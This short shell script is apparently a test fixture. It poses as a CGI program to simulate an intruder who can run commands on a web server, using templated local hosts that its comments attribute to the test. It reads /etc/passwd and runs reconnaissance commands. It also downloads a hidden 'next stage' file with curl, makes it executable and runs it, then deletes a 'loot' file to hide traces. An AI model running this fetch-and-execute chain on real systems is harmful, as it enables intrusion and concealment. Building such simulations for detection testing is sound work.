#!/bin/sh
# A small intrusion by way of a web server, as a CGI program of it: what an intruder does who can have a shell command
# executed. {web} serves the next stage and takes what is carried off, {control} waits for a connection; both are the test's.
printf 'Content-Type: text/plain\r\n\r\n'

# Who and where am I?
id
uname -a
cat /etc/passwd > /dev/null

# The next stage.
curl -s http://127.0.0.1:{web}/stage -o {dir}/tmp/.cache
chmod 755 {dir}/tmp/.cache
{dir}/tmp/.cache

# Nothing to be seen here.
rm -f {dir}/tmp/loot
echo done
